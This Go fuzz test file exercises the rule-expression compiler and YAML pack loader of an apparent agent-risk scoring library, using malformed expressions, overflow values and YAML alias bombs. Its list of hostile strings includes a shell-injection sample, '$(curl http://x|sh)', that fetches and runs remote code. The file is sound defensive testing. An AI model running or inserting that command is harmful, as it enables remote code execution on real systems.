package rules

import (
	"encoding/json"
	"fmt"
	"io/fs"
	"math"
	"reflect"
	"runtime"
	"strings"
	"testing"
	"testing/fstest"
	"time"
	"unicode/utf8"

	"github.com/agentrisk/agentrisk/scoring"
)

// bytesReader hands out the bytes of a fuzzer's input, then zeros.
type bytesReader []byte

func (r *bytesReader) next() byte {
	if len(*r) == 0 {
		return 0
	}
	b := (*r)[0]
	*r = (*r)[1:]
	return b
}

// hostileTexts and hostileNumbers are values that conditions stumble over.
var (
	hostileTexts   = []string{"", "send", "a", "ä", "\xff\xfe", "\x00", "tool_call", strings.Repeat("a", 5000) + "!", "$(curl http://x|sh)", "\u2028", "aaaaaaaaaaaaaaaaaaaaaaaaaaaa", "(?i)["}
	hostileNumbers = []int64{0, 1, -1, math.MaxInt64, math.MinInt64, 1 << 53, 999, 1000, -1000, 65535}
)

// hostileEvent makes an event of any bytes.
func hostileEvent(raw []byte) *scoring.Event {
	r := bytesReader(raw)
	e := &scoring.Event{Time: hostileNumbers[int(r.next())%len(hostileNumbers)], KafkaTime: 1_790_000_000_000}
	for id := range scoring.Fields {
		id, b := scoring.FieldID(id), r.next()
		if b < 100 && id != scoring.FieldKind {
			continue
		}
		switch scoring.Fields[id].Type {
		case scoring.String:
			e.SetStr(id, hostileTexts[int(b)%len(hostileTexts)])
		case scoring.Int, scoring.Milli:
			e.SetInt(id, hostileNumbers[int(b)%len(hostileNumbers)])
		case scoring.Bool:
			e.SetBool(id, b%2 == 0)
		case scoring.Strings:
			e.SetList(id)
			for range b % 4 {
				e.Append(id, hostileTexts[int(r.next())%len(hostileTexts)])
			}
		}
	}
	e.SettleTime()
	return e
}

// FuzzExpression: any text is refused with a message, or is a condition that reads only what it says it reads, stays within
// the bounds of the language, and comes to the same on the same event however often, in closures and on the machine.
func FuzzExpression(f *testing.F) {
	builtin, err := Builtin()
	if err != nil {
		f.Fatal(err)
	}
	for _, r := range builtin.Rules {
		f.Add(r.When, []byte(r.ID), false)
	}
	for _, s := range []string{
		`tool.name == "a" && any(data.classes, # in ["x"])`, `len(content) > 10 || content matches "(a+)+$"`, `net.bytes_out * net.bytes_out + sent_1h`, `9223372036854775807 + 1`, `1 / (net.bytes_out - net.bytes_out)`,
		`int(content)`, `float("1e999") > 1`, `max(1, sent_1h, net.bytes_out)`, `min(data.classes)`, `true ? 1 : 2`, `1..1000000`, `map(data.classes, #)`, `let x = 1; x`, `agent.id`, `kind`, `tool`, `tool?.name`, `tool["name"] == "a"`, `data.classes[0] == "a"`,
		`-(-9223372036854775807 - 1) > 0`, `"a" in data.classes`, `kind in known`, `content startsWith kind`, `kind matches kind`, `not not true`, strings.Repeat("(", 300), strings.Repeat("!", 300) + "true", strings.Repeat("-", 300) + "1 > 0", `'` + strings.Repeat("a", 5000) + `'`, `abs(net.bytes_out) > 0`,
		`read_then_send and sent_1h > 0`, `any(data.classes, any(identity.scopes, # == ""))`, `all(data.classes, # matches "[")`, `1 % 0 == 1`, `2 ** 70 > 1`, `kind == "a" ?? true`, `$env`, `#`, `.x`, `"" | lower()`, `lower(content) contains "a"`, "kind == `a`", "kind\n==\n\"a\" // x", `0x7fffffffffffffff + 1 > 0`, `1e400 > 1`, `max(net.bytes_out * 2.0, 1) > 0`, `net.bytes_out * 4.0 > params.part`, `guard.score > 0.5 and tool.amount < 1_000`,
	} {
		f.Add(s, []byte("\x03\xff\xff\xff"), strings.Contains(s, "sent_1h"))
	}
	features := []scoring.Feature{{Name: "sent_1h", Kind: scoring.Count}, {Name: "read_then_send", Kind: scoring.Sequence}}
	lists := map[string][]string{"known": {"a", "tool_call"}}
	env := newEnvironment(features, lists)
	f.Fuzz(func(t *testing.T, src string, raw []byte, number bool) {
		if !utf8.ValidString(src) {
			return // a pack's files are UTF-8
		}
		c := &compiler{env: env, lists: lists}
		x, err := c.compile(src, map[string]any{"most": 3, "word": "a", "part": 0.5, "on": true}, number)
		if err != nil {
			if err.Error() == "" || strings.Contains(err.Error(), "struct {") {
				t.Errorf("%q: message %.300q", src, err)
			}
			return
		}
		if x.steps <= 0 || x.steps > 1<<20 {
			t.Errorf("%q: %d steps", src, x.steps)
		}
		onMachine := *x
		onMachine.direct = value{}
		p := &Pack{Pack: &scoring.Pack{Features: features}, env: env, rules: []compiledRule{{when: &onMachine}}, rulesBy: newIndex([]key{x.key}), featureBy: newIndex(nil)}
		v := p.newEvaluator().(*evaluator)
		e := hostileEvent(raw)
		before := e.Clone()
		v.Bind(e)
		v.SetFeature(0, hostileNumbers[len(raw)%len(hostileNumbers)])
		v.SetFeature(1, int64(len(raw)%2))
		want, err := v.run(&onMachine)
		again, err2 := v.run(&onMachine)
		if (err == nil) != (err2 == nil) || !reflect.DeepEqual(want, again) {
			t.Fatalf("%q: %v %v, then %v %v", src, want, err, again, err2)
		}
		switch {
		case err != nil:
		case number && x.direct.whole != nil:
			if got := int(x.direct.whole(v)); got != want {
				t.Errorf("%q: %d directly, %v on the machine", src, got, want)
			}
		case !number && x.direct.truth != nil:
			if got := x.direct.truth(v); got != want {
				t.Errorf("%q: %v directly, %v on the machine", src, got, want)
			}
		}
		if err != nil && (x.direct.truth != nil && !number || x.direct.whole != nil && number) {
			t.Errorf("%q: closures cannot fail, the machine says %v", src, err)
		}
		if want == true && len(p.rulesBy.find(e, make([]uint64, 1), nil)) == 0 {
			t.Errorf("%q: true for an event that the index keeps from it", src)
		}
		if !reflect.DeepEqual(e, before) {
			t.Errorf("%q: changes the event", src)
		}
		if why := v.why(x); len(why) > maxWhy {
			t.Errorf("%q: says why in %d bytes", src, len(why))
		}
		if len(x.source) > MaxExpression { // with what lists and parameters stand for
			return
		}
		y, err := c.compile(x.source, nil, number)
		if err != nil || y.source != x.source || !reflect.DeepEqual(y.fields, x.fields) || !reflect.DeepEqual(y.key, x.key) {
			t.Errorf("%q: its canonical form %q is another condition: %v", src, x.source, err)
		}
	})
}

const fuzzHead = "name: fuzz\nversion: \"1\"\ntitle: {en: t, zh: t}\nlists: {known: [a, b]}\n"

// FuzzPack: the files of a pack are refused with every problem said, or are a pack that explains, lints and tests itself,
// costs what it says, judges any event without a panic, and is read again from its own source under the same digest. None
// of it takes more memory than the files warrant.
func FuzzPack(f *testing.F) {
	sub, err := fs.Sub(builtin, "packs/convention-2026")
	if err != nil {
		f.Fatal(err)
	}
	text, problems := files(sub)
	if len(problems) > 0 {
		f.Fatal(problems)
	}
	for name, b := range text {
		if name != "pack.yaml" {
			f.Add(text["pack.yaml"], b, []byte(name))
		}
	}
	rule := "rules:\n- id: AR-PRIV-001\n  title: {en: a, zh: b}\n  severity: low\n  weight: 100\n  when: "
	for _, s := range []string{
		"", "\x00", "rules: []", "rules: {}", "- a", rule + "kind == \"a\"", rule + "kind in known\n  tests:\n  - {name: x, events: [{kind: a, repeat: 99999999}], fires: true}\n",
		"a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c]\nrules: [*d,*d,*d,*d,*d,*d,*d,*d]\n",
		"rules: &r [*r]\n", "rules:\n- &x\n  <<: *x\n", "rules: " + strings.Repeat("[", 2000), "rules: " + strings.Repeat("{a: ", 2000), strings.Repeat("- ", 2000), strings.Repeat("a:\n ", 500), "rules: !!binary x", "rules: !!set {a}", "rules:\n- weight: 99999999999999999999999999\n", "rules:\n- weight: 1e999\n", "rules:\n- weight: .nan\n", "? a\n: b", "%YAML 1.2\n---\nrules: []\n---\nrules: []\n", "\ufeffrules: []", "rules:\n- {when: \"" + strings.Repeat("(", 5000) + "\"}\n",
		"features:\n- {name: n, per: agent, window: 10m, count: true, where: 'kind == \"a\"', by: [tool.name]}\n- {name: s, per: session, within: 10m, sequence: [{where: 'kind == \"a\"'}, {where: 'kind == \"b\"'}], same: tool.name}\n" + rule + "n > 1 and s\n",
		"features:\n- {name: n, per: agent, window: 9223372036854775807ns, sum: net.bytes_out}\n", "features:\n- {name: n, per: agent, window: {a: b}, max: tool.amount}\n", rule + "params.n > 1\n  params: {n: 18446744073709551615, m: [1], o: 1e999}\n", rule + "kind == 'a'\n  exceptions: [{where: 'agent.id == \"x\"', owner: o, expires: '2026-02-30', why: w}]\n",
	} {
		f.Add([]byte(fuzzHead), []byte(s), []byte{1, 2, 3})
	}
	f.Add([]byte(fuzzHead), []byte("rules:\n"+strings.Repeat("- {exceptions: [{}, {}, {}], refs: [{}]}\n", 1000)), []byte{})
	f.Add([]byte("name: !!map\nlists: {a: "+strings.Repeat("[", 500)+"}"), []byte("rules: []"), []byte{})
	f.Fuzz(func(t *testing.T, head, body, raw []byte) {
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		p, err := Load(fstest.MapFS{"pack.yaml": {Data: head}, "rules.yaml": {Data: body}})
		runtime.ReadMemStats(&after)
		if took := after.TotalAlloc - before.TotalAlloc; took > uint64(64<<20+100_000*(len(head)+len(body))) {
			t.Errorf("%d bytes of files took %d MiB to read", len(head)+len(body), took>>20)
		}
		if err != nil {
			problems, ok := err.(Problems)
			if !ok || len(problems) == 0 {
				t.Fatalf("%T %v", err, err)
			}
			crlf := strings.Contains(string(head)+string(body), "\r\n") // of which the library counts some twice
			for _, p := range problems {
				if p.Level != "error" || p.Message == "" || p.File == "" || p.Excerpt != "" && !crlf && !strings.Contains(p.Excerpt, fmt.Sprintf("%d | ", p.Line)) {
					t.Errorf("%+v", p)
				}
			}
			return
		}
		again, err := LoadSource(p.Source())
		if err != nil || again.Digest != p.Digest || again.Own != p.Own {
			t.Fatalf("read again from its source it has another digest: %v", err)
		}
		today := time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC)
		if a, b := fmt.Sprint(p.Lint(today)), fmt.Sprint(again.Lint(today)); a != b {
			t.Errorf("lint says\n%s\nand then\n%s", a, b)
		}
		events := []*scoring.Event{hostileEvent(raw), hostileEvent(body), hostileEvent(head)}
		engines := [2]*scoring.Engine{scoring.NewEngine(p.Pack, scoring.Options{}), scoring.NewEngine(again.Pack, scoring.Options{})}
		for range 2 {
			for _, e := range events {
				var lines [2]string
				for i, g := range engines {
					var v scoring.Verdict
					own := e.Clone()
					g.Judge(own, &v)
					lines[i] = string(scoring.AppendVerdict(nil, p.Pack, own, &v))
				}
				if lines[0] != lines[1] {
					t.Fatalf("two packs of one source judge otherwise:\n%s\n%s", lines[0], lines[1])
				}
			}
		}
		for i := range p.Rules {
			if _, err := json.Marshal(p.Explain(i)); err != nil {
				t.Errorf("%s cannot be explained: %v", p.Rules[i].ID, err)
			}
		}
		n := 0
		if c := p.Cost(func(e *scoring.Event) bool { n++; *e = *hostileEvent(raw); return n < 3 }); c.StepsMax < 0 || c.StateMax < 0 || c.TriesMax > int64(len(p.Rules)) {
			t.Errorf("cost %+v", c)
		}
	})
}
